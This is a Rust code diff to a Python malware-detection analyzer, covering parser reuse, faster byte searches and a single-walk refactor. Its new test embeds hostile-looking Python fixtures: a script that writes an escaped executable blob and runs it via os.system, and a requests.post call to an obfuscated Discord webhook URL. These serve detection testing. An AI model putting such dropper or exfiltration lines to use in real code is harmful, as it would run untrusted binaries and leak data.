@@ -143,23 +143,34 @@ pub(crate) fn analyze(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut 
         );
         return;
     }
-    let mut parser = Parser::new();
-    if parser
-        .set_language(&tree_sitter_python::LANGUAGE.into())
-        .is_err()
-    {
-        return;
-    }
     let masked = mask_escape_runs(src);
-    let Some(tree) = parser.parse(&*masked, None) else {
+    let Some(tree) = parse(&masked) else {
         return;
     };
     let py = Py::collect(src, &tree, ctx);
-    py.walk(&tree, ctx, sink, facts);
+    py.walk(ctx, sink, facts);
+}
+
+/// Parse with this thread's parser (made once per thread, not once per file).
+fn parse(src: &[u8]) -> Option<Tree> {
+    thread_local! {
+        static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
+    }
+    PARSER.with(|cell| {
+        let mut slot = cell.try_borrow_mut().ok()?;
+        if slot.is_none() {
+            let mut parser = Parser::new();
+            parser
+                .set_language(&tree_sitter_python::LANGUAGE.into())
+                .ok()?;
+            *slot = Some(parser);
+        }
+        slot.as_mut()?.parse(src, None)
+    })
 }
 
 fn memchr_count(src: &[u8]) -> usize {
-    src.iter().filter(|&&c| c == b'\n').count() + usize::from(!src.is_empty())
+    memchr::memchr_iter(b'\n', src).count() + usize::from(!src.is_empty())
 }
 
 fn push(
@@ -245,7 +256,7 @@ fn text_checks(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink) {
 }
 
 fn memfind(h: &[u8], n: &[u8]) -> bool {
-    h.windows(n.len()).any(|w| w == n)
+    memchr::memmem::find(h, n).is_some()
 }
 
 /// Statically known bytes, and whether a decoding step produced them.
@@ -273,6 +284,20 @@ struct Py<'t> {
     /// its own depth limit, but they call each other with fresh depths (through `static_str`),
     /// so this shared guard is what bounds the recursion on hostile or generated code.
     nesting: Cell<u32>,
+    /// The nodes the second pass acts on, in its visiting order, recorded by the first
+    /// pass so the tree is walked once.
+    visits: Vec<Visit<'t>>,
+}
+
+/// A node the second pass looks at, with what it needs of the node's ancestors.
+struct Visit<'t> {
+    node: Node<'t>,
+    /// Innermost enclosing function definition.
+    func: Option<Node<'t>>,
+    /// The parent is a concatenated string (reported as a whole).
+    in_concat: bool,
+    /// The parent is a bare expression statement with one child (a docstring).
+    is_doc: bool,
 }
 
 /// Deepest nesting of the static evaluators before they give up.
@@ -405,20 +430,56 @@ impl<'t> Py<'t> {
             budget: Cell::new(0),
             bindings: RefCell::new(Vec::new()),
             nesting: Cell::new(0),
+            visits: Vec::new(),
         };
         let mut top_calls: Vec<String> = Vec::new();
         let mut fn_calls: HashMap<String, Vec<String>> = HashMap::new();
         let mut fn_class: Vec<(String, String)> = Vec::new();
         let mut alias_candidates: Vec<(String, Node<'t>)> = Vec::new();
         // (node, enclosing function name)
-        type Item<'t> = (Node<'t>, Option<Rc<str>>, usize, Option<Rc<str>>);
-        let mut stack: Vec<Item<'t>> = vec![(tree.root_node(), None, 0, None)];
+        // (node, enclosing function name, its id, enclosing class, the walk's view)
+        type Item<'t> = (
+            Node<'t>,
+            Option<Rc<str>>,
+            usize,
+            Option<Rc<str>>,
+            (Option<Node<'t>>, bool, bool),
+        );
+        let mut stack: Vec<Item<'t>> =
+            vec![(tree.root_node(), None, 0, None, (None, false, false))];
         let mut cur = tree.walk();
-        while let Some((n, func, cur_fid, cur_cls)) = stack.pop() {
+        while let Some((n, func, cur_fid, cur_cls, (walk_fn, in_concat, is_doc))) = stack.pop() {
             let mut child_func = func.clone();
             let mut child_fid = cur_fid;
             let mut child_cls = cur_cls.clone();
-            match kind(n) {
+            let node_kind = kind(n);
+            let visit = match node_kind {
+                "call" | "comparison_operator" | "import_statement" | "import_from_statement" => {
+                    true
+                }
+                "string" | "concatenated_string" => !in_concat,
+                "identifier" => !text(n, src).is_ascii(),
+                _ => false,
+            };
+            if visit {
+                py.visits.push(Visit {
+                    node: n,
+                    func: walk_fn,
+                    in_concat,
+                    is_doc,
+                });
+            }
+            let child_walk_fn = if node_kind == "function_definition" {
+                Some(n)
+            } else {
+                walk_fn
+            };
+            let child_view = (
+                child_walk_fn,
+                node_kind == "concatenated_string",
+                node_kind == "expression_statement" && n.named_child_count() == 1,
+            );
+            match node_kind {
                 "import_statement" => {
                     let mut c = n.walk();
                     for ch in n.named_children(&mut c) {
@@ -567,7 +628,13 @@ impl<'t> Py<'t> {
                 _ => {}
             }
             each_child(n, &mut cur, |ch| {
-                stack.push((ch, child_func.clone(), child_fid, child_cls.clone()));
+                stack.push((
+                    ch,
+                    child_func.clone(),
+                    child_fid,
+                    child_cls.clone(),
+                    child_view,
+                ));
             });
         }
         py.fn_ranges.sort_unstable();
@@ -1478,26 +1545,27 @@ impl<'t> Py<'t> {
         if o == 0 { UNKNOWN } else { o }
     }
 
-    /// Second pass: rules on calls, strings, comparisons and identifiers.
-    fn walk(&self, tree: &'t Tree, ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
+    /// Second pass: rules on calls, strings, comparisons and identifiers, over the
+    /// nodes the first pass recorded.
+    fn walk(&self, ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
         let src = self.src;
-        // (node, scope, function id, parent is a concatenated string, parent is a bare
-        // expression statement with one child: a docstring)
-        let mut stack: Vec<(Node<'t>, Scope, usize, bool, bool)> =
-            vec![(tree.root_node(), ctx.top, 0, false, false)];
+        let mut scopes: HashMap<usize, Scope> = HashMap::new();
         let mut unicode_done = false;
         let mut string_pushes = 0usize;
-        let mut cur = tree.walk();
-        while let Some((n, scope, fid, in_concat, is_doc)) = stack.pop() {
-            let mut child_scope = scope;
-            let mut child_fid = fid;
+        for v in &self.visits {
+            let (n, is_doc) = (v.node, v.is_doc);
+            let (scope, fid) = match v.func {
+                None => (ctx.top, 0),
+                Some(f) => (
+                    *scopes
+                        .entry(f.id())
+                        .or_insert_with(|| self.function_scope(f, ctx)),
+                    f.id(),
+                ),
+            };
             match kind(n) {
-                "function_definition" => {
-                    child_scope = self.function_scope(n, ctx);
-                    child_fid = n.id();
-                }
                 "call" => self.on_call(n, scope, fid, ctx, sink, facts),
-                "string" | "concatenated_string" if !in_concat => {
+                "string" | "concatenated_string" if !v.in_concat => {
                     self.on_string(n, scope, is_doc, ctx, sink, &mut string_pushes);
                 }
                 "comparison_operator" => self.on_platform(n, sink),
@@ -1521,11 +1589,6 @@ impl<'t> Py<'t> {
                 }
                 _ => {}
             }
-            let concat = kind(n) == "concatenated_string";
-            let doc = kind(n) == "expression_statement" && n.named_child_count() == 1;
-            each_child(n, &mut cur, |ch| {
-                stack.push((ch, child_scope, child_fid, concat, doc));
-            });
         }
     }
 
@@ -2780,6 +2843,43 @@ mod tests {
 
     fn rules(s: &Sink) -> Vec<&'static str> {
         s.findings.iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn long_escape_runs_are_masked_without_moving_anything() {
+        let pe = "\\x4d\\x5a\\x90\\x00".repeat(100) + "This program\\x00" + &"\\xff".repeat(80);
+        let src = format!(
+            "import os\ndata = b'{pe}'\nopen('a.bin', 'wb').write(data)\nos.system('a.bin')  # \\x00\n"
+        );
+        let masked = mask_escape_runs(src.as_bytes());
+        assert!(matches!(masked, std::borrow::Cow::Owned(_)));
+        assert_eq!(masked.len(), src.len());
+        let m = String::from_utf8(masked.into_owned()).unwrap();
+        assert!(m.contains("data = b'AAAA"), "{m}");
+        // The literal ends where it ended and the code after it is untouched.
+        let tail = "'\nopen('a.bin', 'wb').write(data)\nos.system('a.bin')  # \\x00\n";
+        assert!(m.ends_with(tail), "{m}");
+        // Short runs are left alone.
+        assert!(matches!(
+            mask_escape_runs(b"x = '\\x00\\x01' + 'y' * 300 + 'z'"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+        // The analysis still reads the literal's real value from the original text.
+        let url = format!(
+            "https://discord.com/api/webhooks/123456789/{}",
+            "a".repeat(60)
+        );
+        let escaped: String = url.bytes().map(|b| format!("\\x{b:02x}")).collect();
+        let s = run(&format!(
+            "import requests\nrequests.post('{escaped}', data={{}})\n"
+        ));
+        assert!(
+            s.findings
+                .iter()
+                .any(|f| f.snippet.contains("discord.com/api/webhooks")),
+            "{:?}",
+            rules(&s)
+        );
     }
 
     #[test]
